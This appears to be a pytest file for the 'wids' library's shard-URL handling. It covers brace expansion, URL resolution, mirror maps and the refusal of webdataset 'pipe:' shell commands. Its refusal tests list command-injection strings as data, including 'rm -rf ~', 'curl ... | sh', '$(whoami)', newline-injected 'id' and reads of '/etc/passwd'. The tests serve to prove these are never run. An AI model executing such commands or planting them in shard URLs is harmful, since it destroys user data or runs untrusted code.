"""Shard URLs: resolving, mirrors, remote-only checks, braces (``wids.index.urls``)."""

from __future__ import annotations

import os
import warnings
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from wids import IndexFormatError, PipeCommandError, ShardInfo, expand_braces
from wids.index import urls as urls_module
from wids.index.urls import (
    apply_url_map,
    check_remote_ref,
    check_url_map,
    is_remote_url,
    map_url,
    resolve_url,
    unpipe_url,
    url_dir,
)

# -- braces ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "pattern, expected",
    [
        ("plain.tar", ["plain.tar"]),
        ("s-{000000..000002}.tar", ["s-000000.tar", "s-000001.tar", "s-000002.tar"]),
        ("s-{8..11}", ["s-8", "s-9", "s-10", "s-11"]),
        ("s-{08..11}", ["s-08", "s-09", "s-10", "s-11"]),
        ("{3..1}", ["3", "2", "1"]),
        ("{a,b,c}.tar", ["a.tar", "b.tar", "c.tar"]),
        ("{a,b}/{0..1}", ["a/0", "a/1", "b/0", "b/1"]),
        ("x{y}z", ["x{y}z"]),
        ("{a,}", ["a", ""]),
        ("s3://b/train-{000..001}.tar", ["s3://b/train-000.tar", "s3://b/train-001.tar"]),
        # webdataset's "::" between patterns; not in a chained URL nor an IPv6 host
        ("a-{0..1}.tar::b/c-{7..8}.tar", ["a-0.tar", "a-1.tar", "b/c-7.tar", "b/c-8.tar"]),
        ("s3://b/x.tar::gs://c/y.tar::", ["s3://b/x.tar", "gs://c/y.tar"]),
        (
            "http://[::1]:8/a.tar::http://[::1]:8/b.tar",
            ["http://[::1]:8/a.tar", "http://[::1]:8/b.tar"],
        ),
        ("http://[::1]:8/a-{0..1}.tar", ["http://[::1]:8/a-0.tar", "http://[::1]:8/a-1.tar"]),
        (
            "simplecache::s3://b/x-{0..1}.tar",
            ["simplecache::s3://b/x-0.tar", "simplecache::s3://b/x-1.tar"],
        ),
        ("tar://m.tar::s3://b/x.tar", ["tar://m.tar::s3://b/x.tar"]),
    ],
)
def test_expand_braces(pattern: str, expected: list[str]) -> None:
    assert expand_braces(pattern) == expected


@given(st.integers(0, 5000), st.integers(0, 300), st.integers(1, 8))
def test_expand_braces_ranges_are_padded_and_complete(lo: int, count: int, width: int) -> None:
    hi = lo + count
    width = max(width, len(str(hi)))
    out = expand_braces("p{" + f"{lo:0{width}d}..{hi:0{width}d}" + "}s")
    assert len(out) == count + 1
    assert [int(x[1:-1]) for x in out] == list(range(lo, hi + 1))
    if width > 1:
        assert all(len(x) == width + 2 for x in out)


# -- URLs --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "url, base, expected",
    [
        ("x.tar", "s3://bucket/a", "s3://bucket/a/x.tar"),
        ("x.tar", "s3://bucket/a/", "s3://bucket/a/x.tar"),
        ("../b/x.tar", "s3://bucket/a", "s3://bucket/b/x.tar"),
        ("x.tar", "s3://bucket", "s3://bucket/x.tar"),
        ("/p/x.tar", "https://host:8000/a/b", "https://host:8000/p/x.tar"),
        ("gs://other/x.tar", "s3://bucket/a", "gs://other/x.tar"),
        ("x.tar", "simplecache::s3://b/c", "simplecache::s3://b/c/x.tar"),
        ("x.tar", "/data/set", "/data/set/x.tar"),
        ("sub/../x.tar", "/data/set", "/data/set/x.tar"),
        ("/abs/x.tar", "/data/set", "/abs/x.tar"),
        ("x.tar", "file:///data/set", "/data/set/x.tar"),
    ],
)
def test_resolve_url(url: str, base: str, expected: str) -> None:
    assert resolve_url(url, base) == expected


def test_resolve_url_without_base_is_relative_to_cwd(tmp_path: Path, monkeypatch) -> None:
    monkeypatch.chdir(tmp_path)
    assert resolve_url("a/x.tar", None) == str(tmp_path / "a" / "x.tar")
    assert resolve_url("x.tar", "rel") == str(tmp_path / "rel" / "x.tar")


def test_url_dir() -> None:
    assert url_dir("s3://b/p/d.json") == "s3://b/p"
    assert url_dir("/a/b/d.json") == "/a/b"


# -- mirrors and remote-only checks -----------------------------------------------------------


def test_url_map_longest_prefix_wins_and_forgets_the_old_stores_identity() -> None:
    checked = check_url_map(
        {"/data/": "s3://b/d/", "/data/x": "https://cdn/y", "file:///z/": "/w/"}
    )
    assert checked[0] == ("/data/x", "https://cdn/y")  # longest first; file:// stripped
    assert map_url("/data/x-1.tar", checked) == "https://cdn/y-1.tar"
    assert map_url("/data/a.tar", checked) == "s3://b/d/a.tar"
    assert map_url("/z/a.tar", checked) == "/w/a.tar"
    assert map_url("/other/a.tar", checked) == "/other/a.tar"
    info = ShardInfo("/data/a.tar", 3, 100, etag="e", mtime=1.0, md5sum="ff")
    assert apply_url_map([info], checked) == [ShardInfo("s3://b/d/a.tar", 3, 100, md5sum="ff")]
    assert check_url_map(None) == () and check_url_map({}) == ()


@pytest.mark.parametrize(
    "url_map, error",
    [
        ({"data/": "s3://b/"}, ValueError),  # relative
        ({"/data/": "s3://b"}, ValueError),  # one ends in "/", the other not
        ({"/d/": "/e/", "file:///d/": "/f/"}, ValueError),  # the same prefix twice
        ({"/d/": 3}, TypeError),
        (["/d/", "/e/"], TypeError),
    ],
)
def test_bad_url_maps_are_refused(url_map: object, error: type) -> None:
    with pytest.raises(error):
        check_url_map(url_map)  # type: ignore[arg-type]


def test_a_remote_index_may_name_only_remote_locations() -> None:
    assert is_remote_url("https://h/a.tar") and is_remote_url("simplecache::s3://b/a.tar")
    assert not is_remote_url("/data/a.tar") and not is_remote_url("file:///a.tar")
    assert not is_remote_url("memory://x/a.tar") and not is_remote_url("tar://x::/d/a.tar")
    refused = check_remote_ref("/etc/passwd", "https://h/i.json", False)
    assert refused is not None and "allow_local_shards" in refused
    assert check_remote_ref("/etc/passwd", "https://h/i.json", True) is None  # the user trusts it
    assert check_remote_ref("/etc/passwd", "/local/i.json", False) is None  # a local index
    assert check_remote_ref("s3://b/a.tar", "https://h/i.json", False) is None


# -- webdataset's pipe: URLs ---------------------------------------------------------------------


@pytest.fixture
def fresh_warnings(monkeypatch: pytest.MonkeyPatch) -> None:
    """Forget which pipe: shapes this process has warned about."""
    monkeypatch.setattr(urls_module, "_warned", set())


@pytest.mark.parametrize(
    "url, expected",
    [
        ("pipe:curl -L -s http://host/train-000000.tar || true", "http://host/train-000000.tar"),
        ("pipe:curl -s -L https://host/a/b.tar", "https://host/a/b.tar"),
        ("pipe:curl https://host/a.tar", "https://host/a.tar"),
        ("pipe:curl -fsSL https://host/a.tar?v=1", "https://host/a.tar?v=1"),
        ("pipe:curl --silent --location --fail http://h:8080/x.tar", "http://h:8080/x.tar"),
        ("pipe:curl -s -S -L -f 'http://host/a b.tar'", None),  # a space is not a URL
        ("pipe:curl -s 'http://host/a.tar' ||true", "http://host/a.tar"),
        ("pipe:gsutil cat gs://bucket/x.tar", "gs://bucket/x.tar"),
        ("pipe:gcloud storage cat gs://bucket/d/x.tar", "gs://bucket/d/x.tar"),
        ("pipe:aws s3 cp s3://bucket/x.tar -", "s3://bucket/x.tar"),
        ("pipe:aws s3 cp s3://bucket/x.tar - || true", "s3://bucket/x.tar"),
        ("https://host/pipe:curl.tar", "https://host/pipe:curl.tar"),  # not a pipe: URL
    ],
)
def test_unpipe_maps_the_known_fetches(url: str, expected: str | None, fresh_warnings) -> None:
    if expected is None:
        with pytest.raises(PipeCommandError):
            unpipe_url(url)
        return
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        assert unpipe_url(url) == expected
        assert resolve_url(url, "/some/base") == expected
        assert expand_braces(url) == [expected]


@pytest.mark.parametrize(
    "url",
    [
        "pipe:curl -s http://h/x.tar; rm -rf ~",
        "pipe:curl -s http://h/x.tar;rm -rf ~",
        "pipe:curl -s http://h/x.tar | sh",
        "pipe:curl -s http://h/x.tar && true",
        "pipe:curl -s http://h/x.tar || rm -rf ~",
        "pipe:curl -s http://h/x.tar || true; id",
        "pipe:curl -s http://h/$(whoami).tar",
        "pipe:curl -s http://h/`id`.tar",
        "pipe:curl -s http://h/${HOME}.tar",
        "pipe:curl -s http://h/x.tar > /tmp/x",
        "pipe:curl -s http://h/x.tar 2>/dev/null",
        "pipe:curl -s http://h/x.tar\nid",
        "pipe:curl -s http://h/x.tar & id",
        "pipe:curl -s http://h/a\\;id",
        "pipe:curl -o /tmp/x http://h/x.tar",
        "pipe:curl -K /etc/cfg http://h/x.tar",
        "pipe:curl -s http://h/a.tar http://h/b.tar",
        "pipe:curl -s file:///etc/passwd",
        "pipe:curl -s gs://b/x.tar",
        "pipe:curl -s",
        "pipe:curl -s 'http://h/x.tar",
        "pipe:/usr/bin/curl -s http://h/x.tar",
        "pipe:wget -O - http://h/x.tar",
        "pipe:cat /data/x.tar",
        "pipe:bash -c 'curl http://h/x.tar'",
        "pipe:gsutil cat s3://b/x.tar",
        "pipe:gsutil -m cat gs://b/x.tar",
        "pipe:gsutil cat gs://b/x.tar gs://b/y.tar",
        "pipe:gcloud storage cp gs://b/x.tar -",
        "pipe:aws s3 cp s3://b/x.tar /tmp/x.tar",
        "pipe:aws s3 cp s3://b/x.tar - --profile p",
        "pipe:aws s3 cp - s3://b/x.tar",
        "pipe:",
        "pipe:   ",
        "pipe:|| true",
    ],
)
def test_unpipe_refuses_everything_else(url: str) -> None:
    with pytest.raises(PipeCommandError, match="never runs shell commands") as e:
        unpipe_url(url)
    assert isinstance(e.value, IndexFormatError)
    assert e.value.shard is not None and e.value.shard.startswith("pipe:")
    with pytest.raises(PipeCommandError):
        resolve_url(url, None)
    with pytest.raises(PipeCommandError):
        expand_braces(url)


def test_unpipe_refusal_redacts_the_command() -> None:
    url = "pipe:curl -H 'Authorization: Bearer SECRET1' https://u:SECRET2@h/x.tar?X-Amz-Signature=SECRET3"
    with pytest.raises(PipeCommandError) as e:
        unpipe_url(url)
    assert "SECRET" not in str(e.value)
    assert "https://h/x.tar" in str(e.value)


def test_unpipe_warns_once_per_command_shape(fresh_warnings) -> None:
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        unpipe_url("pipe:curl -s -L http://h/a.tar")
        unpipe_url("pipe:curl -s -L http://h/b.tar")
        unpipe_url("pipe:gsutil cat gs://b/a.tar")
        unpipe_url("pipe:gsutil cat gs://b/b.tar")
        unpipe_url("http://h/c.tar")
    messages = [str(w.message) for w in caught]
    assert len(messages) == 2, messages
    assert "'pipe:curl -s -L URL'" in messages[0] and "-> http://h/a.tar" in messages[0]
    assert "'pipe:gsutil cat URL'" in messages[1] and "-> gs://b/a.tar" in messages[1]
    assert all("never runs shell commands" in m for m in messages)


def test_unpipe_warning_redacts_credentials(fresh_warnings) -> None:
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        got = unpipe_url("pipe:curl -s https://u:pw@h/x.tar?X-Amz-Signature=SECRET")
    assert got == "https://u:pw@h/x.tar?X-Amz-Signature=SECRET"
    assert len(caught) == 1 and "SECRET" not in str(caught[0].message)
    assert "pw" not in str(caught[0].message)


@pytest.mark.servers
@pytest.mark.filterwarnings("ignore:wids reads 'pipe:")
def test_pipe_curl_description_reads_every_sample(http_server, tmp_path, fresh_warnings) -> None:
    """A webdataset-style description (``pipe:curl -s -L http://127.0.0.1:PORT/x.tar``)."""
    from tar_oracle import dataset_samples, strip_meta

    from wids import ShardListDataset, build_index, load_spec
    from wids.synth import write_dataset

    paths = write_dataset(
        str(tmp_path / "src"), shards=3, samples_per_shard=7, real_images=False, prefix="pipe"
    )
    urls = [http_server.put(p, f"pipe/{os.path.basename(p)}") for p in paths]
    assert all(u.startswith("http://127.0.0.1:") for u in urls)
    counts = [7, 7, 7]
    desc = {
        "__kind__": "wids-shard-index-v1",
        "wids_version": 1,
        "shardlist": [
            {"url": f"pipe:curl -s -L {u} || true", "nsamples": n}
            for u, n in zip(urls, counts, strict=True)
        ],
    }
    oracle = dataset_samples(paths)
    with pytest.warns(UserWarning, match="never runs shell commands"):
        spec = load_spec(desc)
    assert [s.url for s in spec.shards] == urls
    ds = ShardListDataset(desc, cache_dir=tmp_path / "cache", transformations=[])
    assert len(ds) == len(oracle) == 21
    for i in range(len(ds)):
        assert strip_meta(ds[i]) == oracle[i], i
    # the brace pattern and build_index take the same URLs
    pattern = f"pipe:curl -s {urls[0].rsplit('/', 1)[0]}/pipe-{{000000..000002}}.tar || true"
    assert expand_braces(pattern) == urls, pattern
    from_pattern = ShardListDataset(pattern, cache_dir=tmp_path / "c3", transformations=[])
    assert [strip_meta(from_pattern[i]) for i in range(len(from_pattern))] == oracle
    built = build_index([f"pipe:curl -fsSL {u}" for u in urls], str(tmp_path / "i.json"))
    assert built is not None
    assert [s.url for s in load_spec(str(tmp_path / "i.json")).shards] == urls
    hostile = {**desc, "shardlist": [{"url": f"pipe:curl -s {urls[0]} | sh", "nsamples": 7}]}
    with pytest.raises(PipeCommandError, match="never runs shell commands"):
        len(ShardListDataset(hostile, cache_dir=tmp_path / "cache2"))


def test_a_webdataset_list_of_patterns_reads_every_shard(tmp_path: Path, monkeypatch) -> None:
    """``"a-{0..1}.tar::b-{0..1}.tar"`` (webdataset's form) is a's shards, then b's. It was read
    as one fsspec chain per pair of shards: the b shards never read, a's samples twice."""
    from tar_oracle import dataset_samples, strip_meta

    from wids import ShardListDataset
    from wids.synth import write_dataset

    kw = {"shards": 2, "real_images": False, "prefix": "shard"}
    a = write_dataset(str(tmp_path / "a"), samples_per_shard=3, **kw)  # type: ignore[arg-type]
    b = write_dataset(str(tmp_path / "b"), samples_per_shard=5, **kw)  # type: ignore[arg-type]
    pattern = "a/shard-{000000..000001}.tar::b/shard-{000000..000001}.tar"
    monkeypatch.chdir(tmp_path)
    assert [os.path.abspath(u) for u in expand_braces(pattern)] == a + b
    ds = ShardListDataset(pattern, transformations=[])
    assert ds.lengths == [3, 3, 5, 5]
    assert [strip_meta(ds[i]) for i in range(len(ds))] == dataset_samples(a + b)
